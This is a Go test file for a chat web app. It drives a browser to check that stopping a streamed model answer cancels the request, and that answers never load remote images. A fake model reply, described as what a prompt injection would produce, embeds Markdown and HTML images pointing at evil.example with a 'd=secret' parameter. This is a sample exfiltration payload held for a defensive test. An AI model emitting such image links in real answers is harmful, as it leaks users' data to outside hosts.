package main

import (
	"context"
	"fmt"
	"net/http"
	"net/http/httptest"
	"os"
	"strings"
	"testing"
	"time"

	"github.com/chromedp/chromedp"
)

// slowChatAPI is an OpenAI-compatible API that streams "word 1 ", "word 2 "... every 50ms
// until the request is cancelled, which it then reports on cancelled.
func slowChatAPI(t *testing.T) (url string, cancelled <-chan struct{}) {
	t.Helper()
	done := make(chan struct{}, 1)
	api := httptest.NewServer(http.HandlerFunc(func(w http.ResponseWriter, r *http.Request) {
		if r.URL.Path != "/api/v1/chat/completions" || r.Header.Get("Authorization") != "Bearer sk-browser-test" {
			http.Error(w, `{"error": {"message": "wrong path or key", "code": 401}}`, http.StatusUnauthorized)
			return
		}
		w.Header().Set("Content-Type", "text/event-stream")
		fmt.Fprint(w, ": OPENROUTER PROCESSING\n\n")
		w.(http.Flusher).Flush()
		tick := time.NewTicker(50 * time.Millisecond)
		defer tick.Stop()
		for i := 1; ; i++ {
			select {
			case <-r.Context().Done():
				done <- struct{}{}
				return
			case <-tick.C:
				fmt.Fprintf(w, `data: {"choices":[{"delta":{"content":"word %d "},"finish_reason":null}]}`+"\n\n", i)
				w.(http.Flusher).Flush()
			}
		}
	}))
	t.Cleanup(api.Close)
	return api.URL + "/api/v1", done
}

// TestBrowserChat sends a message on the chat page, watches the tokens of a slow model
// appear, presses Stop, and checks that the model's request was cancelled and that the
// stopped answer is kept.
func TestBrowserChat(t *testing.T) {
	ctx := newBrowser(t)
	sc := scenarios[0]
	app := appFor(t, sc)
	apiURL, cancelled := slowChatAPI(t)
	t.Setenv("LLM_BASE_URL", apiURL) // startServer passes the environment on to the app
	t.Setenv("OPENROUTER_API_KEY", "sk-browser-test")
	t.Setenv("OPENROUTER_LLM_MODEL", "test/slow-model")
	srv := startServer(t, app, sc)
	defer srv.stop()
	const email, password = "chat-browser@example.com", "a long enough password"
	srv.manage(t, app, password, "users", "create", email, "--password-stdin")

	browserLogin(t, ctx, srv.base+"/chat", email, password, "#chat-form")
	if got := textOf(t, ctx, "#chat-model-info"); !strings.Contains(got, "test/slow-model") {
		t.Errorf("the page says %q, want it to name the model test/slow-model", got)
	}
	err := chromedp.Do(ctx,
		chromedp.SendKeys(chromedp.CSS("#chat-input"), "Tell me a long story"),
		chromedp.Click(chromedp.CSS("#chat-send")),
	)
	if err != nil {
		t.Fatalf("browser: sending a message: %v", err)
	}
	const answer = `#chat-messages [data-role="assistant"]`
	waitForText(t, ctx, answer, "word 2 ")
	waitForText(t, ctx, answer, "word 4 ") // still streaming: the text grows
	if err := chromedp.Do(ctx, chromedp.Click(chromedp.CSS("#chat-stop"))); err != nil {
		t.Fatalf("browser: pressing Stop: %v", err)
	}
	select {
	case <-cancelled:
	case <-time.After(10 * time.Second):
		t.Fatal("the model's request was not cancelled within 10s of pressing Stop")
	}
	waitForText(t, ctx, `#chat-messages [data-status="stopped"]`, "word 1 ")
	if path := os.Getenv("FASTOPP_SCREENSHOT"); path != "" {
		if png, err := chromedp.Run(ctx, chromedp.FullScreenshot(100)); err == nil {
			os.WriteFile(path, png, 0o644)
		}
	}

	// After a reload the server renders the saved answer: the words that arrived, stopped.
	location, err := chromedp.Run(ctx, chromedp.Location())
	if err != nil || !strings.Contains(location, "/chat/") {
		t.Fatalf("after the answer the address is %q (%v), want the conversation's /chat/ID", location, err)
	}
	err = chromedp.Do(ctx,
		chromedp.Navigate(location),
		chromedp.WaitVisible(chromedp.CSS(`#chat-messages [data-status="stopped"]`)),
	)
	if err != nil {
		t.Fatalf("browser: reloading the conversation: %v", err)
	}
	saved := textOf(t, ctx, `#chat-messages [data-status="stopped"]`)
	if !strings.Contains(saved, "word 1 word 2 word 3 word 4") || !strings.Contains(saved, "stopped") {
		t.Errorf("the saved answer shows %q, want the words that had arrived, marked stopped", saved)
	}
}

// waitForText waits until the element sel exists and its text holds want.
func waitForText(t *testing.T, ctx context.Context, sel, want string) {
	t.Helper()
	deadline := time.Now().Add(15 * time.Second)
	for {
		text, err := chromedp.Run(ctx, chromedp.Evaluate[string](
			fmt.Sprintf(`(document.querySelector(%q) || {}).innerText || ""`, sel)))
		if err == nil && strings.Contains(text, want) {
			return
		}
		if time.Now().After(deadline) {
			t.Fatalf("browser: %s never showed %q (last: %q, %v)", sel, want, text, err)
		}
		time.Sleep(50 * time.Millisecond)
	}
}

// imageChatAPI is an OpenAI-compatible API whose answer, as a prompt injection would have
// it, shows images that carry data to other sites (a Markdown one and a raw <img>).
func imageChatAPI(t *testing.T) string {
	t.Helper()
	const answer = "Here is a chart: ![chart](https://evil.example/leak?d=secret) and " +
		`<img src="https://evil.example/raw?d=secret"> and [![logo](https://evil.example/logo.png)](https://example.com)`
	api := httptest.NewServer(http.HandlerFunc(func(w http.ResponseWriter, r *http.Request) {
		w.Header().Set("Content-Type", "text/event-stream")
		for _, chunk := range []string{
			fmt.Sprintf(`{"choices":[{"delta":{"content":%q},"finish_reason":null}]}`, answer),
			`{"choices":[{"delta":{},"finish_reason":"stop"}]}`,
			"[DONE]",
		} {
			fmt.Fprintf(w, "data: %s\n\n", chunk)
		}
	}))
	t.Cleanup(api.Close)
	return api.URL + "/api/v1"
}

// TestBrowserChatLoadsNoRemoteImage shows an answer holding remote images, live and after a
// reload, and checks that the page has no image and that the browser asked nobody for one.
func TestBrowserChatLoadsNoRemoteImage(t *testing.T) {
	sc := scenarios[0]
	app := appFor(t, sc)
	t.Setenv("LLM_BASE_URL", imageChatAPI(t))
	t.Setenv("OPENROUTER_API_KEY", "sk-browser-test")
	t.Setenv("OPENROUTER_LLM_MODEL", "test/image-model")
	srv := startServer(t, app, sc)
	defer srv.stop()
	requireBuiltAssets(t, srv.base)
	const email, password = "chat-images@example.com", "a long enough password"
	srv.manage(t, app, password, "users", "create", email, "--password-stdin")
	tr := newTour(t, srv.base)

	browserLogin(t, tr.ctx, srv.base+"/chat", email, password, "#chat-form")
	tr.do("sending", chromedp.SendKeys(chromedp.CSS("#chat-input"), "Show me a chart"), chromedp.Click(chromedp.CSS("#chat-send")))
	const answer = `#chat-messages [data-role="assistant"][data-status="complete"] .chat-markdown`
	tr.do("the answer is shown", chromedp.WaitVisible(chromedp.CSS(answer)))
	noImages := func(when string) {
		t.Helper()
		for _, check := range []string{
			`document.querySelectorAll("#chat-messages img, #chat-messages picture, #chat-messages source").length`,
			`performance.getEntriesByType("resource").filter(e => e.name.includes("evil.example")).length`,
		} {
			n, err := chromedp.Run(tr.ctx, chromedp.Evaluate[int](check))
			if err != nil || n != 0 {
				t.Errorf("%s: %s = %d (%v), want 0: a remote image was shown or fetched", when, check, n, err)
			}
		}
	}
	noImages("as it streamed")
	location, err := chromedp.Run(tr.ctx, chromedp.Location())
	if err != nil {
		t.Fatal(err)
	}
	tr.visit(strings.TrimPrefix(location, srv.base), answer) // as the server renders it
	noImages("after a reload")
	links, err := chromedp.Run(tr.ctx, chromedp.Evaluate[string](
		fmt.Sprintf(`[...document.querySelectorAll(%q)].map(a => a.textContent + " " + a.href).join("; ")`, answer+" a")))
	if err != nil || !strings.Contains(links, "chart https://evil.example/leak") || !strings.Contains(links, "logo https://example.com") {
		t.Errorf("the answer's links are %q (%v), want the images' alt text linking to them", links, err)
	}
}
